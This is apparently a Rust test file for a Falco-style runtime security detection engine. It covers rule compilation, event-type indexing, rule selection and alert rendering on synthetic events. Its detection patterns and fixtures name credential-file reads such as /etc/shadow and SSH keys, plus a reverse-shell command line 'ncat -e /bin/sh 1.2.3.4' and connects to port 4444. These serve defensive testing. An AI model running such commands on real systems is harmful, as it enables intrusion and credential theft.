//! The compiled ruleset: event-type indexing, selection, matching modes, outputs, end to end on
//! enriched events built from synthetic records.

#![allow(clippy::unwrap_used)]

use std::net::Ipv4Addr;

use vigil_capture::abi::{tag, KIND_PROC_EXEC};
use vigil_capture::encode::RecordBuilder;
use vigil_capture::syscalls::by_name;
use vigil_capture::{Event, ProcInfo, Tuple};
use vigil_rules::fields::{self, EventFields, Host};
use vigil_rules::ruleset::evttypes::{derive, EventTypeSet};
use vigil_rules::ruleset::{LoadedRule, LoadedRules, Origin, Priority, Severity};
use vigil_rules::{parse, MatchMode, Output, Renderer, Ruleset, RulesetConfig, Scratch};
use vigil_state::{Tracker, TrackerConfig};

fn kinds(cond: &str) -> Vec<&'static str> {
    let mut v = derive(&parse(cond).unwrap()).kinds.names();
    v.sort_unstable();
    v
}

fn rule(name: &str, cond: &str) -> LoadedRule {
    LoadedRule {
        name: name.into(),
        desc: format!("{name} desc"),
        condition: parse(cond).unwrap(),
        condition_text: cond.into(),
        output: format!("{name} by %proc.name"),
        priority: Priority::Warning,
        source: "syscall".into(),
        tags: vec![],
        enabled: true,
        warn_evttypes: true,
        skip_if_unknown_filter: false,
        origin: Origin {
            file: "test.yaml".into(),
            line: 1,
            col: 1,
        },
    }
}

fn loaded(rules: Vec<LoadedRule>) -> LoadedRules {
    LoadedRules {
        rules,
        ..Default::default()
    }
}

fn all_len() -> usize {
    EventTypeSet::all().len()
}

#[test]
fn index_leaves_and_or() {
    assert_eq!(kinds("evt.type = openat and fd.name = /etc/shadow"), ["openat"]);
    assert_eq!(
        kinds("evt.type in (open, openat) and proc.name = cat"),
        ["open", "openat"]
    );
    assert_eq!(kinds("evt.type = open or evt.type = connect"), ["connect", "open"]);
    assert_eq!(
        kinds("(evt.type = open or evt.type = connect) and (evt.type in (connect, close))"),
        ["connect"]
    );
    assert_eq!(kinds("evt.type startswith openat"), ["openat", "openat2"]);
    // List modifiers leave the derivation as it is for any other leaf.
    assert_eq!(
        kinds("evt.type startswith anyof (openat, connect)"),
        ["connect", "openat", "openat2"]
    );
    assert_eq!(kinds("evt.type = anyof (open, connect)"), ["connect", "open"]);
    assert_eq!(kinds("evt.type startswith allof (open, openat)"), ["openat", "openat2"]);
    assert_eq!(
        derive(&parse("proc.cmdline contains anyof (a, b)").unwrap())
            .kinds
            .len(),
        all_len()
    );
    assert_eq!(
        kinds("proc.cmdline contains anyof (a, b) and evt.type = connect"),
        ["connect"]
    );
    // Any other leaf matches every type; `and` with it keeps the other side.
    assert_eq!(derive(&parse("proc.name = bash").unwrap()).kinds.len(), all_len());
    assert_eq!(kinds("proc.name = bash and evt.type = connect"), ["connect"]);
    assert_eq!(
        derive(&parse("proc.name = bash or evt.type = connect").unwrap())
            .kinds
            .len(),
        all_len()
    );
}

#[test]
fn index_not_and_ne_complement() {
    let open = by_name("open").unwrap().kind;
    for c in ["evt.type != open", "not evt.type = open", "not evt.type in (open)"] {
        let d = derive(&parse(c).unwrap()).kinds;
        assert_eq!(d.len(), all_len() - 1, "{c}");
        assert!(!d.contains(open), "{c}");
    }
    // not (type and other): the other leaf may be false, so every type may match.
    let d = derive(&parse("not (evt.type = open and proc.name = cat)").unwrap()).kinds;
    assert_eq!(d.len(), all_len());
    // Double negation is exact.
    assert_eq!(kinds("not not evt.type = close"), ["close"]);
    // not (a or b) = all but a and b.
    let d = derive(&parse("not (evt.type = open or evt.type = close)").unwrap()).kinds;
    assert_eq!(d.len(), all_len() - 2);
}

#[test]
fn index_exec_has_two_names() {
    // The exec tracepoint is both execve and execveat; the execve syscall row is a failed exec.
    assert_eq!(kinds("evt.type = execve"), ["execve", "execve", "execveat"]);
    let not_execve = derive(&parse("not evt.type = execve").unwrap()).kinds;
    assert!(
        not_execve.contains(KIND_PROC_EXEC),
        "an execveat exec still satisfies `not evt.type = execve`"
    );
    let not_either = derive(&parse("not evt.type in (execve, execveat)").unwrap()).kinds;
    assert!(!not_either.contains(KIND_PROC_EXEC));
}

#[test]
fn index_unknown_and_empty() {
    let d = derive(&parse("evt.type in (open, page_fault, k8s_event)").unwrap());
    assert_eq!(d.kinds.names(), ["open"]);
    assert_eq!(d.unknown, ["page_fault", "k8s_event"]);
    let d = derive(&parse("evt.type = open and evt.type = close").unwrap());
    assert!(d.kinds.is_empty());
    assert!(d.unknown.is_empty());
}

#[test]
fn event_types_for_the_probe() {
    let (rs, _) = Ruleset::compile(
        &loaded(vec![
            rule("a", "evt.type = connect and fd.sport = 4444"),
            rule("b", "evt.type in (execve, execveat) and proc.name = nc"),
        ]),
        &RulesetConfig::default(),
    );
    let mut names = rs.event_types().syscall_names();
    names.sort_unstable();
    assert_eq!(names, ["connect", "execve", "execveat"]);
    assert!(rs.event_types().contains(KIND_PROC_EXEC));
}

#[test]
fn warnings_for_unknown_and_all_types() {
    let mut quiet = rule("quiet", "proc.name = bash");
    quiet.warn_evttypes = false;
    let (rs, diags) = Ruleset::compile(
        &loaded(vec![
            rule("unknown", "evt.type in (page_fault, signaldeliver) and proc.name = x"),
            rule("everything", "proc.name = bash"),
            quiet,
            rule("fine", "evt.type = open"),
        ]),
        &RulesetConfig::default(),
    );
    let msgs: Vec<_> = diags.iter().map(|d| (d.severity, d.message.as_str())).collect();
    assert_eq!(msgs.len(), 2, "{msgs:?}");
    assert_eq!(msgs[0].0, Severity::Warning);
    assert!(msgs[0].1.contains("`unknown` never runs"), "{}", msgs[0].1);
    assert!(msgs[0].1.contains("page_fault, signaldeliver"), "{}", msgs[0].1);
    assert!(msgs[1].1.contains("`everything` matches"), "{}", msgs[1].1);
    assert_eq!(diags[0].origin.file.as_ref(), "test.yaml");
    assert_eq!(rs.rules().len(), 4);
    assert!(rs.rules()[0].event_types.is_empty());
}

#[test]
fn compile_errors_are_diagnostics() {
    let mut bad_out = rule("bad output", "evt.type = open");
    bad_out.output = "x=%proc.nmae".into();
    let mut other = rule("k8s audit", "evt.type = open");
    other.source = "k8s_audit".into();
    let (rs, diags) = Ruleset::compile(
        &loaded(vec![
            rule("bad cond", "proc.nmae = x"),
            bad_out,
            other,
            rule("ok", "evt.type = open"),
        ]),
        &RulesetConfig::default(),
    );
    assert_eq!(rs.rules().len(), 1);
    assert_eq!(rs.rules()[0].name, "ok");
    assert_eq!(diags.len(), 3);
    assert_eq!(diags[0].severity, Severity::Error);
    assert!(
        diags[0].message.contains("did you mean `proc.name`"),
        "{}",
        diags[0].message
    );
    assert!(diags[0].message.contains("test.yaml:1:1"), "{}", diags[0].message);
    assert_eq!(diags[1].severity, Severity::Error);
    assert!(diags[1].message.contains("proc.nmae"), "{}", diags[1].message);
    assert_eq!(diags[2].severity, Severity::Warning);
    assert!(diags[2].message.contains("k8s_audit"));
}

fn names(rs: &Ruleset) -> Vec<&str> {
    rs.rules()
        .iter()
        .filter(|r| r.enabled)
        .map(|r| r.name.as_str())
        .collect()
}

#[test]
fn selection_priority_names_tags() {
    let mut rules = vec![
        rule("Read sensitive file", "evt.type = open"),
        rule("Write below etc", "evt.type = open"),
        rule("Debug thing", "evt.type = open"),
        rule("Off by default", "evt.type = open"),
    ];
    rules[0].priority = Priority::Critical;
    rules[0].tags = vec!["filesystem".into(), "mitre_credential_access".into()];
    rules[1].priority = Priority::Error;
    rules[1].tags = vec!["filesystem".into()];
    rules[2].priority = Priority::Debug;
    rules[3].enabled = false;
    rules[3].tags = vec!["network".into()];
    let l = loaded(rules);
    let compile = |cfg: RulesetConfig| Ruleset::compile(&l, &cfg).0;

    assert_eq!(
        names(&compile(RulesetConfig::default())),
        ["Read sensitive file", "Write below etc", "Debug thing"]
    );
    let cfg = RulesetConfig {
        min_priority: Priority::Error,
        ..Default::default()
    };
    assert_eq!(names(&compile(cfg)), ["Read sensitive file", "Write below etc"]);
    let cfg = RulesetConfig {
        disable: vec!["*below*".into()],
        ..Default::default()
    };
    assert_eq!(names(&compile(cfg)), ["Read sensitive file", "Debug thing"]);
    let cfg = RulesetConfig {
        disable_tags: vec!["mitre_*".into()],
        enable: vec!["Off by*".into()],
        ..Default::default()
    };
    assert_eq!(
        names(&compile(cfg)),
        ["Write below etc", "Debug thing", "Off by default"]
    );
    let cfg = RulesetConfig {
        enable_tags: vec!["network".into()],
        ..Default::default()
    };
    assert_eq!(names(&compile(cfg)).len(), 4);
    // Enabled and disabled: the disable comes later and wins.
    let cfg = RulesetConfig {
        enable: vec!["Off by default".into()],
        disable_tags: vec!["net*".into()],
        ..Default::default()
    };
    assert_eq!(names(&compile(cfg)).len(), 3);
    // The threshold holds over an explicit enable.
    let cfg = RulesetConfig {
        enable: vec!["Debug thing".into()],
        min_priority: Priority::Warning,
        ..Default::default()
    };
    assert!(!names(&compile(cfg)).contains(&"Debug thing"));
}

const BOOT: u64 = 1_000_000_000;

fn host() -> Host {
    Host {
        hostname: Some("node-1".into()),
        // 2024-02-29T23:59:59Z at boot.
        boot_epoch_ns: Some(1_709_251_199_000_000_000),
    }
}

fn exec(pid: u32, exe: &str, argv: &[&str]) -> Vec<u8> {
    RecordBuilder::new(KIND_PROC_EXEC, BOOT, pid, pid)
        .ppid(1)
        .ids(0, 0)
        .field(tag::FILENAME, exe.as_bytes())
        .argv(argv)
        .path_rev(tag::EXEPATH, exe)
        .path_rev(tag::CWD, "/root")
        .procinfo(&ProcInfo::default())
        .build()
}

fn openat(pid: u32, path: &str, ts: u64) -> Vec<u8> {
    RecordBuilder::syscall("openat", BOOT + ts, pid, pid)
        .arg(0, (-100i64) as u64)
        .str_arg(1, path)
        .res(3)
        .build()
}

#[test]
fn end_to_end_modes_and_order() {
    let l = loaded(vec![
        rule("shadow", "evt.type in (open, openat) and fd.name = /etc/shadow"),
        rule("etc", "evt.type in (open, openat) and fd.name pmatch (/etc)"),
        rule("cat", "evt.type = openat and proc.name = cat"),
        rule("shell", "evt.type = execve and proc.name in (bash, sh)"),
    ]);
    let mut tracker = Tracker::new(TrackerConfig::default());
    let h = host();
    let mut scratch = Scratch::new();
    let mut out = Vec::new();
    let (first, _) = Ruleset::compile(&l, &RulesetConfig::default());
    let (all, _) = Ruleset::compile(
        &l,
        &RulesetConfig {
            mode: MatchMode::All,
            ..Default::default()
        },
    );
    let rec = exec(100, "/usr/bin/cat", &["cat", "/etc/shadow"]);
    let ev = Event::decode(&rec).unwrap();
    let en = tracker.apply(&ev);
    all.evaluate(&EventFields::new(&en, &h, Some(1)), &mut scratch, &mut out);
    assert!(out.is_empty(), "cat is not a shell");

    let rec = openat(100, "/etc/shadow", 1);
    let ev = Event::decode(&rec).unwrap();
    let en = tracker.apply(&ev);
    let f = EventFields::new(&en, &h, Some(2));
    first.evaluate(&f, &mut scratch, &mut out);
    assert_eq!(out.iter().map(|r| r.name.as_str()).collect::<Vec<_>>(), ["shadow"]);
    all.evaluate(&f, &mut scratch, &mut out);
    assert_eq!(
        out.iter().map(|r| r.name.as_str()).collect::<Vec<_>>(),
        ["shadow", "etc", "cat"]
    );

    let rec = openat(100, "/etc/hosts", 2);
    let ev = Event::decode(&rec).unwrap();
    let en = tracker.apply(&ev);
    first.evaluate(&EventFields::new(&en, &h, Some(3)), &mut scratch, &mut out);
    assert_eq!(out.iter().map(|r| r.name.as_str()).collect::<Vec<_>>(), ["etc"]);

    let rec = exec(101, "/bin/bash", &["bash", "-i"]);
    let ev = Event::decode(&rec).unwrap();
    let en = tracker.apply(&ev);
    first.evaluate(&EventFields::new(&en, &h, Some(4)), &mut scratch, &mut out);
    assert_eq!(out.iter().map(|r| r.name.as_str()).collect::<Vec<_>>(), ["shell"]);
    assert_eq!(first.rules_for_kind(KIND_PROC_EXEC).count(), 1);
}

#[test]
fn merged_or_chains_and_long_pmatch_agree_with_the_plain_tests() {
    // `contains`/`startswith`/`=` chains on one field become one automaton or set; a long pmatch
    // list becomes a prefix set. Each is checked against paths on both sides.
    let table = fields::table();
    let dirs: Vec<String> = (0..20).map(|i| format!("/opt/app{i}")).collect();
    let conds = [
        "proc.cmdline contains nc or proc.cmdline contains ncat or proc.cmdline contains \"-e /bin\" or proc.name = x",
        "fd.name startswith /etc/ or fd.name startswith /root/.ssh or fd.name startswith /var/spool/cron",
        "fd.name = /etc/shadow or fd.name in (/etc/sudoers, /etc/gshadow) or fd.name = /etc/passwd",
        &format!("fd.name pmatch ({}, /, /usr)", dirs.join(", ")),
        &format!("fd.name pmatch ({})", dirs.join(", ")),
    ];
    let compiled: Vec<_> = conds
        .iter()
        .map(|c| vigil_rules::compile(&parse(c).unwrap(), &table).unwrap())
        .collect();
    let mut tracker = Tracker::new(TrackerConfig::default());
    tracker.apply(&Event::decode(&exec(7, "/usr/bin/ncat", &["ncat", "-e", "/bin/sh", "1.2.3.4"])).unwrap());
    let mut scratch = Scratch::new();
    let cases: &[(&str, [bool; 5])] = &[
        ("/etc/shadow", [true, true, true, true, false]),
        ("/etc/sudoers", [true, true, true, true, false]),
        ("/etcx", [true, false, false, true, false]),
        ("/root/.ssh/id_rsa", [true, true, false, true, false]),
        ("/opt/app13/data", [true, false, false, true, true]),
        ("/opt/app13", [true, false, false, true, true]),
        ("/opt/app1x/data", [true, false, false, true, false]),
        // relative to the cwd, /root
        ("relative", [true, false, false, true, false]),
    ];
    for (path, want) in cases {
        let rec = openat(7, path, 5);
        let ev = Event::decode(&rec).unwrap();
        let en = tracker.apply(&ev);
        for (i, c) in compiled.iter().enumerate() {
            assert_eq!(c.matches(&en, &mut scratch), want[i], "{path}: {}", conds[i]);
        }
    }
}

#[test]
fn output_text_and_json() {
    let mut r = rule("Shadow read", "evt.type = openat and fd.name = /etc/shadow");
    r.priority = Priority::Critical;
    r.tags = vec!["filesystem".into(), "T1003".into()];
    r.output = "*Read %fd.name by %proc.name (pid=%proc.pid parent=%proc.aname[1] gp=%proc.aname[2] \
                lower=%toupper(proc.name) flags=%evt.arg.flags label=%container.label[app] \
                upper=%proc.is_exe_upper_layer id=%container.id name=%proc.name) 100%."
        .into();
    let (rs, diags) = Ruleset::compile(&loaded(vec![r]), &RulesetConfig::default());
    assert!(diags.is_empty(), "{diags:?}");
    let mut tracker = Tracker::new(TrackerConfig::default());
    let h = host();
    tracker.apply(&Event::decode(&exec(100, "/usr/bin/cat", &["cat", "/etc/shadow"])).unwrap());
    let rec = openat(100, "/etc/shadow", 500_000_000);
    let ev = Event::decode(&rec).unwrap();
    let en = tracker.apply(&ev);
    let f = EventFields::new(&en, &h, Some(9));
    let mut hits = Vec::new();
    rs.evaluate(&f, &mut Scratch::new(), &mut hits);
    let rule = hits[0];
    let mut renderer = Renderer::new();
    let mut text = Vec::new();
    renderer.text(rule, &f, &mut text);
    let text = String::from_utf8(text).unwrap();
    // boot + 1s + 0.5s after 23:59:59 on 2024-02-29.
    assert_eq!(
        text,
        "00:00:00.500000000: Critical Read /etc/shadow by cat (pid=100 parent=<NA> gp=<NA> \
         lower=CAT flags=O_RDONLY label=<NA> upper=false id=host name=cat) 100%."
    );
    let mut json = Vec::new();
    renderer.json(rule, &f, &mut json);
    let v: serde_json::Value = serde_json::from_slice(&json).unwrap();
    assert_eq!(v["time"], "2024-03-01T00:00:00.500000000Z");
    assert_eq!(v["rule"], "Shadow read");
    assert_eq!(v["priority"], "Critical");
    assert_eq!(v["source"], "syscall");
    assert_eq!(v["hostname"], "node-1");
    assert_eq!(v["output"], text);
    assert_eq!(v["tags"], serde_json::json!(["filesystem", "T1003"]));
    let of = &v["output_fields"];
    assert_eq!(of["fd.name"], "/etc/shadow");
    assert_eq!(of["proc.pid"], 100);
    assert_eq!(of["proc.aname[2]"], serde_json::Value::Null);
    assert_eq!(of["toupper(proc.name)"], "CAT");
    assert_eq!(of["proc.is_exe_upper_layer"], false);
    assert_eq!(of["container.label[app]"], serde_json::Value::Null);
    assert_eq!(of["evt.arg.flags"], "O_RDONLY");
    assert_eq!(of.as_object().unwrap().len(), 10, "proc.name once: {of}");
    // Falco's key order.
    let keys: Vec<_> = v.as_object().unwrap().keys().cloned().collect();
    assert_eq!(
        keys,
        [
            "hostname",
            "output",
            "output_fields",
            "priority",
            "rule",
            "source",
            "tags",
            "time"
        ]
    );
}

#[test]
fn output_templates() {
    let t = fields::table();
    let names = |s: &str| {
        Output::compile(s, &t)
            .unwrap()
            .field_names()
            .map(str::to_owned)
            .collect::<Vec<_>>()
    };
    assert_eq!(names("file=%fd.name."), ["fd.name"]);
    assert_eq!(names("a %proc.aname[3] b %evt.arg[0]"), ["proc.aname[3]", "evt.arg[0]"]);
    assert_eq!(names("%join(\",\", proc.args) 50% done"), ["join(\",\", proc.args)"]);
    let e = Output::compile("x=%proc.nmae", &t).unwrap_err();
    assert!(e.to_string().contains("did you mean `proc.name`"), "{e}");
    assert!(Output::compile("%tolower(proc.name", &t).is_err());
    // Without a clock the time prefix and `time` are missing, not invented.
    let (rs, _) = Ruleset::compile(&loaded(vec![rule("r", "evt.type = openat")]), &RulesetConfig::default());
    let mut tracker = Tracker::new(TrackerConfig::default());
    let rec = openat(5, "/a\"b", 1);
    let ev = Event::decode(&rec).unwrap();
    let en = tracker.apply(&ev);
    let f = EventFields::new(&en, &Host::UNKNOWN, None);
    let mut json = Vec::new();
    Renderer::new().json(&rs.rules()[0], &f, &mut json);
    let v: serde_json::Value = serde_json::from_slice(&json).unwrap();
    assert_eq!(v["time"], serde_json::Value::Null);
    assert_eq!(v["hostname"], "");
    assert!(v["output"].as_str().unwrap().starts_with("<NA>: Warning r by "));
}

#[test]
fn connect_end_to_end() {
    let l = loaded(vec![rule(
        "outbound",
        "evt.type = connect and fd.sip != 127.0.0.1 and fd.sport in (4444, 1337)",
    )]);
    let (rs, _) = Ruleset::compile(&l, &RulesetConfig::default());
    let mut tracker = Tracker::new(TrackerConfig::default());
    tracker.apply(&Event::decode(&exec(9, "/usr/bin/nc", &["nc", "1.2.3.4", "4444"])).unwrap());
    let sock = RecordBuilder::syscall("socket", BOOT + 1, 9, 9)
        .arg(0, 2)
        .arg(1, 1)
        .arg(2, 6)
        .res(4)
        .build();
    tracker.apply(&Event::decode(&sock).unwrap());
    let conn = |port: u16| {
        RecordBuilder::syscall("connect", BOOT + 2, 9, 9)
            .arg(0, 4)
            .sockaddr(Ipv4Addr::new(1, 2, 3, 4).into(), port)
            .tuple(&Tuple {
                family: 2,
                sock_type: 1,
                proto: 6,
                local: (Ipv4Addr::new(10, 0, 0, 5).into(), 41000),
                remote: (Ipv4Addr::new(1, 2, 3, 4).into(), port),
            })
            .res(0)
            .build()
    };
    let h = host();
    let mut out = Vec::new();
    let mut scratch = Scratch::new();
    for (port, want) in [(4444, 1), (443, 0)] {
        let rec = conn(port);
        let ev = Event::decode(&rec).unwrap();
        let en = tracker.apply(&ev);
        rs.evaluate(&EventFields::new(&en, &h, None), &mut scratch, &mut out);
        assert_eq!(out.len(), want, "port {port}");
    }
}

#[test]
fn from_a_rule_file() {
    let yaml = r#"
- list: shell_binaries
  items: [bash, sh, zsh]
- macro: spawned_process
  condition: evt.type in (execve, execveat)
- rule: Shell spawned
  desc: a shell
  condition: spawned_process and proc.name in (shell_binaries)
  output: "Shell %proc.name (cmdline=%proc.cmdline parent=%proc.pname)"
  priority: NOTICE
  tags: [shell]
- rule: Noisy
  desc: every event
  condition: proc.name = bash
  output: x
  priority: DEBUG
  warn_evttypes: false
"#;
    let l = vigil_rules::load_sources(&[("shell.yaml", yaml)]);
    assert_eq!(l.errors().count(), 0, "{:?}", l.diagnostics);
    let cfg = RulesetConfig {
        min_priority: Priority::Informational,
        ..Default::default()
    };
    let (rs, diags) = Ruleset::compile(&l, &cfg);
    assert!(diags.is_empty(), "{diags:?}");
    assert_eq!(names(&rs), ["Shell spawned"]);
    assert_eq!(rs.event_types().syscall_names(), ["execve", "execveat"]);
    let mut tracker = Tracker::new(TrackerConfig::default());
    let rec = exec(42, "/bin/bash", &["bash", "-c", "id"]);
    let ev = Event::decode(&rec).unwrap();
    let en = tracker.apply(&ev);
    let h = host();
    let f = EventFields::new(&en, &h, None);
    let mut out = Vec::new();
    rs.evaluate(&f, &mut Scratch::new(), &mut out);
    let mut text = Vec::new();
    Renderer::new().text(out[0], &f, &mut text);
    assert_eq!(
        String::from_utf8(text).unwrap(),
        "00:00:00.000000000: Notice Shell bash (cmdline=bash -c id parent=<NA>)"
    );
}
